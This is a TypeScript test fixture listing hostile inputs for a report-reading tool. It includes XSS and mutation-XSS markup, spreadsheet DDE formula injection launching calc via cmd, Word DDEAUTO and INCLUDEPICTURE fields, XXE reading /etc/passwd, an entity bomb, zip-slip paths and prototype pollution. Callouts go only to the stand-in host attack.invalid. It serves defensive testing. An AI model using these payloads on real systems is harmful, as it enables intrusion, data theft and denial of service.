/**
 * Inputs made to do harm, as data: what would run sets `__ran`, what would call out calls attack.invalid. Used by
 * src/reading/hostile-inputs.test.ts in Node and by e2e/hostile.spec.ts in the browser. A new kind of attack is a new
 * line here. Not for the product.
 */

const RUN = "globalThis.__ran=true";
const OUT = "http://attack.invalid";

/** Words for any text, heading, name or cell. */
export const hostileTexts: Readonly<Record<string, string>> = {
  "a script": `<script>${RUN}</script>`,
  "a picture that fails": `<img src=x onerror="${RUN}">`,
  "a picture from elsewhere": `<img src="${OUT}/t.png">`,
  "a drawing that loads": `"><svg onload=${RUN}><image href="${OUT}/t.svg"/></svg>`,
  "a field that takes the cursor": `'"><input autofocus onfocus=${RUN}>`,
  "an opened detail": `<details open ontoggle=${RUN}>x`,
  "an end of the page": `</td></table></body></html><iframe srcdoc="<script>parent.${RUN}</script>">`,
  "an end of a comment": `--><script>${RUN}</script><!--`,
  "an end of a character section": `]]><w:fldSimple w:instr="DDEAUTO c:\\\\x"/><![CDATA[`,
  "an end of a Word text": `</w:t></w:r><w:r><w:instrText>INCLUDEPICTURE "${OUT}/i"</w:instrText></w:r><w:r><w:t>`,
  "an end of an attribute": `"/><Relationship Id="r9" TargetMode="External" Target="${OUT}/r"/>`,
  "entities that become markup": `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;`,
  "an entity": `&xxe;&#x26;lt;script&#x26;gt;`,
  "a template": `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%= ${RUN} %>`,
  "an address that runs": `javascript:${RUN}//`,
  "a style that calls out": `x;background:url(${OUT}/s.png)}</style><style>@import '${OUT}/s.css';`,
  "a table's mutation": `<table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  "a mathematical mutation": `<math><mtext><table><mglyph><style><math href=javascript:${RUN}>x</math>`,
  "a noscript mutation": `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  "writing turned round": "甲\u202Etxt.exe\u202C\u2066乙\u2069\u200F丙",
  "null bytes and control characters": "甲\u0000<\u0000script>\u0008\u001B[31m\u007F乙",
  "half characters": "甲\uD83D乙\uDE00\uFFFE\uFFFF",
  "a formula": `=HYPERLINK("${OUT}/?x="&A1,"点击")`,
  "a command as formula": `=cmd|' /C calc'!A0`,
  "a plus formula": `+1+cmd|' /C calc'!A0`,
  "an at formula": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a formula behind a tab": `\t=WEBSERVICE("${OUT}")`,
  "a field code": `{ INCLUDETEXT "${OUT}/t" } DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"`,
  "a path": "../../../../../../etc/passwd\\..\\..\\x",
  "a prototype's name": "__proto__",
  "a very long word": "<b>".repeat(5_000),
};

/** Markup that stands in a web page: in its head, body, cells. */
export const hostilePages: Readonly<Record<string, string>> = {
  "scripts of all kinds": `<script>${RUN}</script><script src="${OUT}/a.js"></script><script type=module>${RUN}</script>`,
  "lists named like what every object has": `<ol class="constructor __proto__" type=toString style="list-style-type:valueOf"><li>甲</ol>`,
  "a base elsewhere": `<base href="${OUT}/">`,
  "a page that turns away": `<meta http-equiv="refresh" content="0;url=${OUT}/"><meta http-equiv="Set-Cookie" content="a=b">`,
  "sheets and icons from elsewhere": `<link rel=stylesheet href="${OUT}/a.css"><link rel=icon href="${OUT}/i"><link rel=preload as=image href="${OUT}/p">`,
  "a style that imports": `<style>@import "${OUT}/a.css";*{background:url(${OUT}/b.png)}</style>`,
  "pictures, sounds, films": `<img src="${OUT}/a.png" srcset="${OUT}/b.png 2x" onerror="${RUN}"><audio src="${OUT}/a" autoplay></audio><video poster="${OUT}/p"><source src="${OUT}/v"></video>`,
  "frames and objects": `<iframe src="${OUT}/f"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe><object data="${OUT}/o"></object><embed src="${OUT}/e">`,
  "links that run": `<a href="javascript:${RUN}">甲</a><a href="data:text/html,<script>${RUN}</script>">乙</a><a href="vbscript:x" ping="${OUT}/p">丙</a>`,
  "handlers on everything": `<p onclick="${RUN}" onmouseover="${RUN}" onfocus="${RUN}" tabindex=0 autofocus>甲</p><body onload="${RUN}" onpageshow="${RUN}">`,
  "a form": `<form action="${OUT}/post" method=post><input name=a autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">x</button></form>`,
  "a drawing with a script": `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><foreignObject><img src=x onerror="${RUN}"></foreignObject><use href="${OUT}/u#x"/><animate onbegin="${RUN}" attributeName=x dur=1s /></svg>`,
  "a drawing's link": `<svg><a xlink:href="javascript:${RUN}"><text>甲</text></a><set attributeName=href to="javascript:${RUN}"/></svg>`,
  "a formula of MathML": `<math href="javascript:${RUN}"><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  "a template and a slot": `<template><img src=x onerror="${RUN}"></template><div><slot onslotchange="${RUN}"></slot></div>`,
  "an unclosed attribute": `<img src="x" alt="><script>${RUN}</script>`,
  "a comment that ends early": `<!--><script>${RUN}</script>--><!--x--!><img src=x onerror=${RUN}>`,
  "a declaration in between": `<![CDATA[<script>${RUN}</script>]]><?xml-stylesheet href="${OUT}/x.xsl"?><!DOCTYPE x [<!ENTITY y SYSTEM "${OUT}/e">]>&y;`,
  "a style in a text area": `<textarea></textarea><img src=x onerror=${RUN}><title></title><img src=x onerror=${RUN}>`,
  "a mutation by foreign content": `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  "a mutation by a list": `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  "names of the page's own": `<img name=document><form id=window><input name=parentNode></form><a id=location href="${OUT}"></a>`,
  "old Office markup": `<!--[if gte mso 9]><xml><o:OLEObject Type="Link" DrawAspect="Content" r:id="${OUT}"/></xml><![endif]--><v:imagedata src="${OUT}/v.png"/>`,
  "nests without end": `${"<div><b><table><tr><td>".repeat(2_000)}甲`,
  "a cell of a million columns": `<table><tr><td colspan=1000000 rowspan=1000000>甲</table>`,
  "bytes of nothing": `<scr\u0000ipt>${RUN}</scr\u0000ipt><img\u0000src=x\u0000onerror=${RUN}>`,
};

/** What a Word file holds besides its report. */
export interface HostileWord {
  /** OOXML in the body, behind the title. */
  readonly body?: string;
  /** Relations of the body. */
  readonly relations?: string;
  /** Further parts, or others in the place of those that are there. */
  readonly parts?: Readonly<Record<string, string>>;
  /** Before the body's root element. */
  readonly prolog?: string;
}

const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

function relate(id: string, type: string, target: string): string {
  return `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`;
}

function writeField(code: string, result = "甲"): string {
  const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  const words = `<w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r>`;
  return `<w:p>${mark("begin")}${words}${mark("separate")}<w:r><w:t>${result}</w:t></w:r>${mark("end")}</w:p>`;
}

const bomb = Array.from({ length: 9 }, (_, at) => `<!ENTITY b${at + 1} "${`&b${at};`.repeat(10)}">`).join("");

export const hostileWords: Readonly<Record<string, HostileWord>> = {
  "a picture from elsewhere": {
    relations: relate("x1", "image", `${OUT}/a.png`),
    body: '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="x1"/></w:drawing></w:r></w:p>',
  },
  "a template from elsewhere": {
    relations: relate("x1", "attachedTemplate", `${OUT}/t.dotm`),
    parts: { "word/settings.xml": `<w:settings><w:attachedTemplate r:id="x1"/></w:settings>` },
  },
  "a linked object": {
    relations: relate("x1", "oleObject", `${OUT}/o`),
    body: '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" r:id="x1"/></w:object></w:r></w:p>',
  },
  "a piece of another file": {
    relations: relate("x1", "aFChunk", `${OUT}/c.html`),
    body: '<w:altChunk r:id="x1"/><w:subDoc r:id="x1"/>',
  },
  "a web page inside": {
    relations: `<Relationship Id="x1" Type="${OFFICE}/aFChunk" Target="c.html"/>`,
    body: '<w:altChunk r:id="x1"/>',
    parts: { "word/c.html": `<script>${RUN}</script><img src="${OUT}/i">` },
  },
  "a link that runs": {
    relations: relate("x1", "hyperlink", `javascript:${RUN}`),
    body: '<w:p><w:hyperlink r:id="x1"><w:r><w:t>点击</w:t></w:r></w:hyperlink></w:p>',
  },
  "a command field": { body: writeField('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') },
  "a field that fetches": {
    body: writeField(`INCLUDEPICTURE "${OUT}/p" \\d`) + writeField(`INCLUDETEXT "${OUT}/t"`),
  },
  "a field in one element": {
    body: `<w:p><w:fldSimple w:instr='DDE "cmd" "/k calc"'><w:r><w:t>甲</w:t></w:r></w:fldSimple></w:p>`,
  },
  "a field's code in its result": {
    body: writeField("QUOTE", "DDEAUTO cmd") + writeField("MACROBUTTON AutoOpen"),
  },
  "a macro": {
    relations: `<Relationship Id="x1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
    parts: { "word/vbaProject.bin": "\u00D0\u00CF\u0011\u00E0AutoOpen" },
  },
  "an outside entity": {
    prolog: `<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`,
    body: "<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>",
  },
  "entities of entities": {
    prolog: `<!DOCTYPE w:document [<!ENTITY b0 "ha">${bomb}]>`,
    body: "<w:p><w:r><w:t>&b9;</w:t></w:r></w:p>",
  },
  "a definition from elsewhere": {
    prolog: `<!DOCTYPE w:document SYSTEM "${OUT}/d.dtd"><?xml-stylesheet href="${OUT}/x.xsl"?>`,
  },
  "paths out of the archive": {
    parts: {
      "../../../../tmp/x.xml": "<x/>",
      "/etc/passwd": "x",
      "C:\\\\x.xml": "<x/>",
      "word/../../y.xml": "<x/>",
    },
  },
  "parts named like prototypes": {
    parts: { __proto__: "x", "constructor/prototype.xml": "<x/>", "word/__proto__.xml": `{"polluted":true}` },
  },
  "a relation to the outside as body": {
    parts: {
      "_rels/.rels": `<Relationships><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="${OUT}/document.xml"/></Relationships>`,
    },
  },
  "markup in its words": {
    body: `<w:p><w:r><w:t>&lt;script&gt;${RUN}&lt;/script&gt;&lt;img src=x onerror=${RUN}&gt;</w:t></w:r></w:p>`,
  },
  "nests without end": { body: "<w:sdt><w:sdtContent>".repeat(20_000) },
};

/** Changes of a draft file's JSON. */
export const hostileJsons: Readonly<Record<string, (json: string) => string>> = {
  "a prototype at the top": (json) => json.replace("{", '{"__proto__":{"polluted":true},'),
  "a prototype in the sections": (json) =>
    json.replace('"sections":{', '"sections":{"__proto__":{"polluted":true},'),
  "a prototype in the tables": (json) =>
    json.replace('"tables":{', '"tables":{"__proto__":{"polluted":true},'),
  "a prototype among the notes": (json) =>
    json.replace(
      /"cellNotes":\{(\}?)/,
      (_, end: string) =>
        `"cellNotes":{"__proto__":"x","constructor.prototype.polluted":"x"${end === "" ? "," : "}"}`,
    ),
  "a constructor": (json) =>
    json.replace("{", '{"constructor":{"prototype":{"polluted":true}},"toString":1,"hasOwnProperty":1,'),
  "a prototype in last year's report": (json) =>
    json.replace('"previous":null', '"previous":{"format":"2021","__proto__":{"polluted":true}}'),
  "a heading that is a list": (json) => json.replace(/"heading":"[^"]*"/, '"heading":["<script>"]'),
  "figures beyond all numbers": (json) => json.replace(/"naturalPerson":\d+/, '"naturalPerson":1e999'),
  "a kept warning of nothing": (json) =>
    json.replace(
      '"kept":[]',
      `"kept":[{"rule":"<img src=x onerror=${RUN}>","cells":[],"place":"__proto__","excerpt":null,"reason":"<script>${RUN}</script>"}]`,
    ),
  "lists without end": (json) =>
    json.replace('"kept":[]', `"kept":${"[".repeat(50_000)}${"]".repeat(50_000)}`),
};

/** Sheets and clipboards. */
export const hostileSheets: Readonly<Record<string, string>> = {
  "formulas in every cell": `办理情况\t自然人\t商业企业\n予以公开\t=cmd|' /C calc'!A0\t+HYPERLINK("${OUT}")\n部分公开\t@SUM(1)\t-1+1`,
  "formulas behind quotes": `予以公开\t"=1+1"\t"\t=2+2"\t"\r\n=3+3"`,
  "an open quote": `"予以公开\t1\t2\n${"x\t".repeat(1_000)}`,
  "names of prototypes": "__proto__\tconstructor\ttoString\n予以公开\t1\t2\nhasOwnProperty\t3\t4",
  "markup for cells": `<img src=x onerror=${RUN}>\t<script>${RUN}</script>\n予以公开\t1<svg onload=${RUN}>`,
  "null bytes": "予以公开\t1\u00002\t\u202E21\n\u0000\t\u0000",
  "a first word of a trap": `sep=|\nID;PWXL;N;E\n=DDE("cmd";"/c calc";"x")`,
};
